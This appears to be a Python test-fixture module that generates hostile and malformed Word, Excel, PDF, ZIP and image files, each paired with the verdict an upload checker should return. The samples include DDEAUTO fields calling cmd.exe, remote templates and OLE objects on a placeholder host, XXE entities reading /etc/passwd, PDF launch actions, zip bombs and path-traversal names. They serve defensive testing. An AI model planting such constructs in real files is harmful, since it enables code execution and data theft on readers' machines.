"""Papers that mean harm or are not what they are called: (row, title, name, bytes, what must be told of them).

What must be told is the code of a house rule and a word of the program, whose Chinese stands in the message; an empty
code means that nothing may be found."""

from __future__ import annotations

import random
import struct
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from tests.store.made_files import (
    JPG,
    LFS_POINTER,
    W,
    compound,
    office,
    pdf,
    pdf_with_xref_stream,
    real_docx,
    real_xlsx,
    word,
    word_xml,
    zipped,
)
from tests.verify.packages import End, Raw, zip_of

Case = tuple[str, str, str, bytes | Callable[[], bytes], str, str]
DOCUMENT = "word/document.xml"
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS = "http://schemas.microsoft.com/office/2006/relationships"
PARTS = [
    Raw(b"[Content_Types].xml", b"<Types/>"),
    Raw(b"_rels/.rels", b"<Relationships/>"),
    Raw(DOCUMENT.encode(), word_xml("正文").encode()),
]


def cases() -> Iterator[Case]:
    """Yield every paper."""
    yield from _bombs()
    yield from _active_words()
    yield from _active_books()
    yield from _disguised_relationships()
    yield from _harmless_relationships()
    yield from _doctypes()
    yield from _broken()
    yield from _names_and_lies()
    yield from _contents()
    yield from _pdfs()
    yield from _images()


def relationships(*told: tuple[str, str, str]) -> str:
    """Return the XML of relationships, each (kind, target, mode)."""
    inside = "".join(
        f'<Relationship Id="r{number}" Type="{kind if "/" in kind else f"{TYPES}/{kind}"}" Target="{target}"'
        + (f' TargetMode="{mode}"/>' if mode else "/>")
        for number, (kind, target, mode) in enumerate(told)
    )
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inside}</Relationships>'
    )


def related(
    kind: str, target: str, mode: str = "", *, of: str = "document", more: Mapping[str, bytes] | None = None
) -> bytes:
    """Return a Word document with one relationship, and further parts."""
    told = {f"word/_rels/{of}.xml.rels": relationships((kind, target, mode))}
    return office(DOCUMENT, word_xml("正文"), **told, **(more or {}))


def book(**more: bytes | str) -> bytes:
    """Return a workbook with further parts."""
    return office("xl/workbook.xml", "<workbook/>", **more)


def _bombs() -> Iterator[Case]:
    for title, make in (
        ("one long text", lambda: office(DOCUMENT, b"<w:document><w:t>" + b"a" * 60_000_000)),
        ("ten million paragraphs", lambda: office(DOCUMENT, b"<w:document>" + b"<w:p/>" * 10_000_000)),
        ("an image of zeros", lambda: office(DOCUMENT, **{"word/media/a.png": bytes(110 * 1024**2)})),
        ("60,000 parts", lambda: zip_of([*PARTS, *(Raw(b"%d" % n) for n in range(60_000))])),
        ("headers of 60 MiB in all", lambda: _long(headers=3)),
    ):
        yield "X5", title, "甲.docx", make, "FILE-4", "bomb"
    for emoji in ("", "\U00020000"):
        yield "L7", f"a text of 48 MiB {emoji}", "甲.docx", partial(_long, 24, emoji), "", ""
    yield "L7", "5,001 parts", "甲.docx", zip_of([*PARTS, *(Raw(b"%d" % n) for n in range(4998))]), "FILE-4", "bomb"
    yield "L7", "5,000 parts", "甲.docx", zip_of([*PARTS, *(Raw(b"%d" % n) for n in range(4997))]), "", ""
    large = [Raw(b"word/media/%d.png" % n, size=45 * 2**20, packed_size=45 * 2**20) for n in range(5)]
    yield "L7", "225 MiB told", "甲.docx", zip_of([*PARTS, *large]), "FILE-4", ""
    yield "X5", "a zip of zeros", "甲.zip", zipped({"零": bytes(3 * 2**20)}), "FILE-4", "bomb"
    inner = zipped({"零": bytes(1000)})
    yield "X5", "zips within zips are not opened", "甲.zip", zipped({f"{n}.zip": inner for n in range(50)}), "", ""
    yield "L8", "a book of more than 4 MiB is only named", "甲.xlsx", _large_book, "", ""
    yield "X5", "a paper of ours with 180 MiB of pictures", "甲.docx", _large_paper_of_ours, "", ""


def _lightly_packed(parts: Mapping[str, bytes]) -> bytes:
    buffer = BytesIO()
    with ZipFile(buffer, "w", ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _long(blocks: int = 10, start: str = "", headers: int = 0) -> bytes:
    """Return a document with a text of so many times 2 MiB, packed to about a fortieth; or with such headers."""
    dice = random.Random(5)  # noqa: S311 no secret
    texts = (f"{dice.getrandbits(240):x}{'字' * 500}" for _ in range(1330))
    block = "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in texts).encode()
    names = [f"word/header{number}.xml" for number in range(headers)] or [DOCUMENT]
    data = word_xml(start).encode() + block * blocks
    return _lightly_packed({each.name.decode(): each.data for each in PARTS} | dict.fromkeys(names, data))


def _large_book() -> bytes:
    return book(**{"xl/sharedStrings.xml": _sheets()})


def _large_paper_of_ours() -> bytes:
    picture = (random.Random(5).randbytes(10_000) + bytes(390_000)) * 110  # noqa: S311 no secret
    pictures = {f"word/media/{number}.png": picture for number in range(4)}
    stamp = {name: text.encode() for name, text in _stamped("{}").items()}
    return _lightly_packed({each.name.decode(): each.data for each in PARTS} | stamp | pictures)


def _paragraphs(size: int) -> bytes:
    dice = random.Random(5)  # noqa: S311 no secret
    block = b"".join(b"<w:p><w:r><w:t>%x</w:t></w:r></w:p>" % dice.getrandbits(2000) for _ in range(10))
    return (block * (size // len(block) + 1))[:size]


def _sheets() -> bytes:
    return b"<sst>" + b"".join(b"<si><t>%x</t></si>" % (n * 7919) for n in range(300_000)) + b"</sst>"


def _active_words() -> Iterator[Case]:
    macro = {"word/vbaProject.bin": b"x"}
    yield "X6", "macros", "甲.docx", office(DOCUMENT, word_xml("正文"), **macro), "FILE-21", "macros"
    yield "X6", "macros by relationship", "甲.docx", related(f"{MS}/vbaProject", "a.dat"), "FILE-21", "macros"
    remote = "http://192.0.2.1/a.dotm"
    for target in (remote, "\\\\192.0.2.1\\a\\b.dotm", "//192.0.2.1/a.dotm", "file://192.0.2.1/a.dotm", "file:////h/a"):
        template = related("attachedTemplate", target, "External", of="settings")
        yield "X6", f"template at {target}", "甲.docx", template, "FILE-21", "remote_template"
    for kind, target in (
        ("oleObject", "http://192.0.2.1/a.hta"),
        ("oleObject", "mhtml:http://192.0.2.1/a.html!x-usc:http://192.0.2.1/a.html"),
        ("oleObject", "html:http://192.0.2.1/a.html"),
        ("frame", "https://192.0.2.1/a.html"),
        ("subDocument", "file://192.0.2.1/a.docx"),
        ("aFChunk", "https://192.0.2.1/a.html"),
        ("unheardOf", "ftp://192.0.2.1/a"),
    ):
        yield "X6", f"{kind} {target}", "甲.docx", related(kind, target, "External"), "FILE-21", "remote_content"
    for kind, word_of, name in (
        ("aFChunk", "foreign_part", "a.html"),
        ("control", "activex", "activeX/activeX1.xml"),
        ("oleObject", "embedded", "embeddings/oleObject1.bin"),
        ("package", "embedded", "embeddings/a.xlsx"),
    ):
        yield "X6", kind, "甲.docx", related(kind, name, more={f"word/{name}": b"x"}), "FILE-22", word_of
    packed = compound({"\x01Ole10Native": b"x" * 5000})
    program = related("oleObject", "embeddings/a.bin", more={"word/embeddings/a.bin": packed})
    yield "X6", "a packed program", "甲.docx", program, "FILE-22", "embedded"
    for title, fields in (
        ("DDE", _field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;")),
        ("DDE in pieces", _field("DD", "EAU", "TO cmd")),
        ("DDE in small letters", _field("ddeauto cmd")),
        ("DDE by references", _field("&#68;DE cmd")),
        ("DDE in a simple field", '<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>'),
    ):
        xml = word_xml("正文").replace("</w:body>", f"{fields}</w:body>")
        yield "X6", title, "甲.docx", office(DOCUMENT, xml), "FILE-21", "dde"
    picture = related("image", "http://192.0.2.1/a.png", "External")
    yield "X6", "picture elsewhere", "甲.docx", picture, "FILE-22", "remote_picture"
    local = related("oleObject", "file:///D:\\资料\\预算.xlsx", "External")
    yield "X6", "linked file", "甲.docx", local, "FILE-22", "linked_file"


def _field(*codes: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'


def _active_books() -> Iterator[Case]:
    rels = "xl/_rels/workbook.xml.rels"
    yield "X6", "macros in a book", "甲.xlsx", book(**{"xl/vbaProject.bin": b"x"}), "FILE-21", "macros"
    sheet = relationships((f"{MS}/xlMacrosheet", "macrosheets/sheet1.xml", ""))
    yield "X6", "macro sheet", "甲.xlsx", book(**{rels: sheet}), "FILE-21", "macros"
    link = {"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink ddeService='cmd'/></externalLink>"}
    yield "X6", "DDE in a book", "甲.xlsx", book(**link), "FILE-21", "dde"
    other = {"xl/externalLinks/_rels/externalLink1.xml.rels": relationships(("externalLinkPath", "a.xlsx", "External"))}
    yield "X6", "linked book", "甲.xlsx", book(**other), "FILE-22", "linked_file"
    query = {rels: relationships(("connections", "connections.xml", ""))}
    yield "X6", "query", "甲.xlsx", book(**query), "FILE-22", "data_connection"
    slides = office("ppt/presentation.xml", **{"ppt/slides/_rels/slide1.xml.rels": _remote_object()})
    yield "X6", "object on a slide", "甲.pptx", slides, "FILE-21", "remote_content"


def _remote_object() -> str:
    return relationships(("oleObject", "http://192.0.2.1/a", "External"))


def _disguised_relationships() -> Iterator[Case]:
    name = "word/_rels/document.xml.rels"
    for title, xml in (
        ("single quotes", _remote_object().replace('"', "'")),
        ("UTF-16", _remote_object()),
        ("other prefix", _remote_object().replace("<Relationship ", "<p:Relationship ")),
        ("references", _remote_object().replace("External", "&#69;xternal").replace("oleObject", "ole&#x4F;bject")),
        ("blanks", _remote_object().replace("=", " \n= ")),
        ("a bracket in a value", _remote_object().replace("192.0.2.1", "192.0.2.1/>")),
    ):
        data = xml.encode("utf-16" if title == "UTF-16" else "utf-8")
        yield "X6", f"disguised by {title}", "甲.docx", office(DOCUMENT, **{name: data}), "FILE-21", "remote_content"
    upper = office(DOCUMENT, **{name.upper(): _remote_object()})
    yield "X6", "disguised by a name in capitals", "甲.docx", upper, "FILE-21", "remote_content"
    huge = office(DOCUMENT, **{name: _paragraphs(3 * 2**20)})
    yield "X6", "relationships of 3 MiB", "甲.docx", huge, "FILE-4", "bomb"


def _harmless_relationships() -> Iterator[Case]:
    yield "X6", "links", "甲.docx", related("hyperlink", "https://www.example.org/", "External"), "", ""
    template = "file:///C:\\Users\\某某\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"
    for target in (template, "Normal.dotm", "C:/模板/公文.dotx"):
        data = related("attachedTemplate", target, "External", of="settings")
        yield "X6", f"own template {target}", "甲.docx", data, "", ""
    chart = {"word/charts/_rels/chart1.xml.rels": relationships(("package", "../embeddings/a.xlsx", ""))}
    yield "X6", "a chart's own figures", "甲.docx", office(DOCUMENT, **chart), "", ""
    for stream in ("VisioDocument", "Equation Native"):
        drawing = {"word/embeddings/oleObject1.bin": compound({stream: b"x" * 5000})}
        yield "X6", stream, "甲.docx", related("oleObject", "embeddings/oleObject1.bin", more=drawing), "", ""
    fields = word_xml("正文").replace("</w:body>", _field("PAGEREF _Toc1 \\h", 'HYPERLINK "x"') + "</w:body>")
    yield "X6", "page numbers", "甲.docx", office(DOCUMENT, fields), "", ""
    yield "X6", "the word DDE in a text", "甲.docx", word("采用 DDE 技术"), "", ""


def _doctypes() -> Iterator[Case]:
    inner = '<!DOCTYPE x [<!ENTITY a "b">]>'
    many = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY b{n} "{(f"&b{n - 1};" if n else "&a;") * 10}">' for n in range(10)
    )
    square = f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>'
    outside = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    remote = '<!DOCTYPE x SYSTEM "http://192.0.2.1/a.dtd">'
    for title, start in (
        ("inner", inner),
        ("nested", many + "]>"),
        ("square", square),
        ("file", outside),
        ("net", remote),
    ):
        xml = f'{start}<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body></w:document>'
        yield "X7", title, "甲.docx", office(DOCUMENT, xml), "FILE-4", "doctype"
        yield "X7", f"{title}, UTF-16", "甲.docx", office(DOCUMENT, xml.encode("utf-16")), "FILE-4", "doctype"
    late = " " * (1024**2 - 4) + outside
    yield "X7", "behind a mebibyte of blanks", "甲.docx", office(DOCUMENT, _pad() + late), "FILE-4", "doctype"
    rels = {"word/_rels/document.xml.rels": outside + _remote_object()}
    yield "X7", "in relationships", "甲.docx", office(DOCUMENT, **rels), "FILE-4", "doctype"


def _pad() -> str:
    dice = random.Random(7)  # noqa: S311 no secret
    return "<!-- " + "".join(f"{dice.getrandbits(400):x} " for _ in range(1000)) + "-->"


def _broken() -> Iterator[Case]:
    yield "X8", "an empty zip", "甲.docx", zip_of([]), "FILE-4", "empty_zip"
    yield (
        "X8",
        "no main part",
        "甲.docx",
        zipped({"[Content_Types].xml": "<x/>", "_rels/.rels": "<x/>"}),
        "FILE-4",
        "missing_part",
    )
    yield (
        "X8",
        "no relationships",
        "甲.docx",
        zipped({"[Content_Types].xml": "<x/>", DOCUMENT: "<x/>"}),
        "FILE-4",
        "missing_part",
    )
    yield "X8", "a part twice", "甲.docx", zip_of([*PARTS, PARTS[2]]), "FILE-4", "duplicate_part"
    yield "X8", "old Word", "甲.docx", compound({"WordDocument": b"x"}), "FILE-4", ""
    yield "X8", "a book called a text", "甲.docx", real_xlsx(), "FILE-4", ""
    yield "X8", "a text called a book", "甲.xlsx", real_docx("甲"), "FILE-4", ""
    sheet = {"xl/worksheets/sheet1.xml": '<c r="A1" t="s"><v>99999999999999999999</v></c><c r="ZZZZZZ9"><v>x</v></c>'}
    yield "X8", "cells that point nowhere", "甲.xlsx", book(**sheet), "", ""
    yield "X8", "bytes that are no UTF-8", "甲.docx", office(DOCUMENT, b"<w:document>\xff\xfe\xfd</w:document>"), "", ""
    brackets = office(DOCUMENT, **_stamped("[" * 100_000))
    yield "X8", "a remembered value of brackets", "甲.docx", brackets, "", ""
    yield "X8", "cut in the middle", "甲.docx", real_docx("甲")[:5000], "FILE-4", "bad_zip"
    yield "X8", "an old file in a circle", "甲.doc", compound({"WordDocument": b"x"})[:700], "FILE-4", "bad_ole"
    merged = {"xl/worksheets/sheet1.xml": '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'}
    yield "X3", "as a paper", "甲.xlsx", book(**merged), "", ""
    dimension = '<dimension ref="A1:A1"/><sheetData>' + '<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 20_000
    yield "X4", "as a paper", "甲.xlsx", book(**{"xl/worksheets/sheet1.xml": dimension}), "", ""
    cell = '<c r="A1"><f>SUM(A1:XFD1048576)</f></c>'
    yield "X13", "as a paper", "甲.xlsx", book(**{"xl/worksheets/sheet1.xml": cell}), "", ""


def _stamped(values: str) -> dict[str, str]:
    """Return the parts of a paper of ours that remembers this text."""
    from zlxm.model.stamp import NAMESPACE, PROPERTIES_PART, PROPERTY  # noqa: PLC0415 only here

    stamp = "|".join(["申报表", *["0" * 16] * 3])
    return {
        PROPERTIES_PART: f'<property name="{PROPERTY}"><vt:lpwstr>{stamp}</vt:lpwstr></property>',
        "customXml/item1.xml": f'<made xmlns="{NAMESPACE}">{values}</made>',
    }


def _names_and_lies() -> Iterator[Case]:
    for name in (b"../e", b"/abs", b"C:\\w", b"a\\..\\b", b"a/../../b", b"x\x00.png", b"..\\..\\e"):
        yield "X9", f"part {name!r}", "甲.docx", zip_of([*PARTS, Raw(name, b"x")]), "FILE-4", "unsafe_name"
    yield "X10", "encrypted part", "甲.docx", zip_of([*PARTS, Raw(b"a", b"x", flags=0x801)]), "FILE-5", ""
    lying = Raw(DOCUMENT.encode(), word_xml("正文").encode(), local_name=b"word/documenT.xml")
    yield "X10", "other name in front", "甲.docx", zip_of([*PARTS[:2], lying]), "FILE-4", "bad_zip"
    small = Raw(DOCUMENT.encode(), word_xml("正文" * 500).encode(), 8, size=20)
    yield "X10", "false size", "甲.docx", zip_of([*PARTS[:2], small]), "FILE-4", "bad_zip"
    false = Raw(DOCUMENT.encode(), word_xml("正文").encode(), crc=1)
    yield "X10", "false check sum", "甲.docx", zip_of([*PARTS[:2], false]), "FILE-4", "bad_zip"
    over = [Raw(b"%d" % n, b"x" * 40, at=0) for n in range(1000)]
    yield "X10", "overlapping parts", "甲.docx", zip_of([*PARTS, *over]), "FILE-4", "overlap"
    prefixed = zip_of(PARTS, End(prefix=b"PK\x03\x04" + b"x" * 200))
    yield "X10", "something in front", "甲.docx", prefixed, "FILE-4", "hidden_data"
    other = Raw(DOCUMENT.encode(), b"x" * 50, 14)
    yield "X10", "other compression", "甲.docx", zip_of([*PARTS[:2], other]), "FILE-4", "bad_zip"
    yield "X10", "more entries told than there are", "甲.docx", zip_of(PARTS, End(total=9)), "", ""
    yield "X10", "directory elsewhere", "甲.docx", zip_of(PARTS, End(offset=2**31)), "FILE-4", "bad_zip"
    yield "X11", "a name of 60,000 bytes", "甲.docx", zip_of([*PARTS, Raw(b"a" * 60_000)]), "", ""
    yield "X11", "a time of 1980-00-00", "甲.docx", zip_of(PARTS), "", ""


def _contents() -> Iterator[Case]:
    ofd = zipped({"OFD.xml": "<ofd:OFD/>", "Doc_0/Document.xml": "<x/>"})
    plain = zipped({"甲.txt": "甲"})
    for name, data in (("甲.docx", real_docx("甲")), ("甲.xlsx", real_xlsx()), ("甲.ofd", ofd), ("甲.zip", plain)):
        yield "F1", f"{name} is itself", name, data, "", ""
    for name, data in (
        ("甲.docx", ofd),
        ("甲.ofd", plain),
        ("甲.xlsx", plain),
        ("甲.pdf", ofd),
        ("甲.ofd", real_docx("甲")),
    ):
        yield "F1", f"{name} of {len(data)} bytes", name, data, "FILE-4", ""
    yield "F3", "login page", "甲.pdf", b"<!DOCTYPE html><html><body>Login</body></html>", "FILE-4", "html"
    yield "F3", "behind a mark and comments", "甲.docx", b"\xef\xbb\xbf\n<!-- x -->\n<HTML>", "FILE-4", "html"
    yield "F3", "XHTML", "甲.pdf", b'<?xml version="1.0"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD">', "FILE-4", "html"
    yield "F3", "a page that mentions a PDF", "甲.pdf", b"<html>%PDF-1.7 %%EOF</html>", "FILE-4", "html"
    yield "F3", "comments without end", "甲.pdf", b"<!--" * 250, "FILE-4", ""
    yield "F3", "a plain sentence", "甲.pdf", "请登录".encode(), "FILE-4", "txt"
    for name in ("甲.pdf", "甲.docx", "甲.png", "甲"):
        yield "F4", name, name, LFS_POINTER, "FILE-6", ""
        yield "F5", name, name, b"", "FILE-3", ""


def _pdfs() -> Iterator[Case]:
    yield "F2", "behind line ends", "甲.pdf", b"\xef\xbb\xbf\r\n" + pdf(), "", ""
    yield "F2", "without its end", "甲.pdf", pdf(end=b""), "FILE-4", "truncated"
    yield "F2", "cut in half", "甲.pdf", pdf(body=b"x" * 5000)[:2500], "FILE-4", "truncated"
    yield "F2", "its end far from the end", "甲.pdf", pdf() + b"\n" * 2000, "FILE-4", "truncated"
    yield "F2", "its start far from the start", "甲.pdf", b"\x00" * 1500 + pdf(), "FILE-4", ""
    yield "F2", "a table before its start", "甲.pdf", b"%PDF-1.7\nstartxref\n-1\n%%EOF", "", ""
    yield "F2", "a table behind its end", "甲.pdf", b"%PDF-1.7\nstartxref\n999999999999\n%%EOF", "", ""
    yield "F2", "a thousand tables", "甲.pdf", b"%PDF-1.7\n" + b"startxref\n0\n" * 1000 + b"%%EOF", "", ""
    yield "F6", "PDF, then zip", "甲.pdf", pdf() + zipped({"a": "b"}), "FILE-4", "trailing_zip"
    yield "F6", "PDF, then zip, as a zip", "甲.zip", pdf() + zipped({"a": "b"}), "FILE-4", "trailing_zip"
    yield "F6", "zip that holds a PDF in front", "甲.pdf", zip_of([Raw(b"a", pdf())]), "FILE-4", ""
    yield "F8", "in its trailer", "甲.pdf", pdf("<< /Size 1 /Encrypt 5 0 R >>"), "FILE-5", ""
    yield "F8", "in a stream", "甲.pdf", pdf_with_xref_stream("/Encrypt 5 0 R", 50), "FILE-5", ""
    launch = b"<< /Type /Action /S /Launch /F (cmd.exe) >>"
    script = b"<< /OpenAction << /S /JavaScript /JS (app.alert) >> >>"
    yield "F9", "program", "甲.pdf", pdf(body=launch), "FILE-21", "launch"
    yield "F9", "program, at the end of a long file", "甲.pdf", pdf(body=b"x" * 300_000 + launch), "FILE-21", "launch"
    yield "F9", "program, at the start of a long file", "甲.pdf", pdf(body=launch + b"x" * 300_000), "FILE-21", "launch"
    yield "F9", "script", "甲.pdf", pdf(body=script), "FILE-22", "script"
    yield "F9", "the word in a text", "甲.pdf", pdf(body=b"(/JavaScript /Launch)"), "", ""


def _images() -> Iterator[Case]:
    def png(width: int, height: int) -> bytes:
        head = b"IHDR" + struct.pack(">2I", width, height) + b"\x08\x06\x00\x00\x00"
        return b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0d" + head + b"\x00" * 20

    frame = b"\xff\xc0\x00\x11\x08" + struct.pack(">2H", 65535, 65535) + b"\x03" + b"\x00" * 9
    yield "F7", "PNG of 4 thousand million pixels", "甲.png", png(65535, 65535), "FILE-4", "huge_image"
    yield "F7", "PNG of negative size", "甲.png", png(2**32 - 1, 2**32 - 1), "FILE-4", "huge_image"
    yield "F7", "JPEG of 4 thousand million pixels", "甲.jpg", JPG[:-2] + frame, "FILE-4", "huge_image"
    yield "F7", "a scan of a large sheet", "甲.png", png(19_866, 28_087), "", ""
    yield "F7", "PNG without a head", "甲.png", b"\x89PNG\r\n\x1a\n", "", ""
    yield "F7", "JPEG that is one mark", "甲.jpg", b"\xff\xd8\xff", "", ""
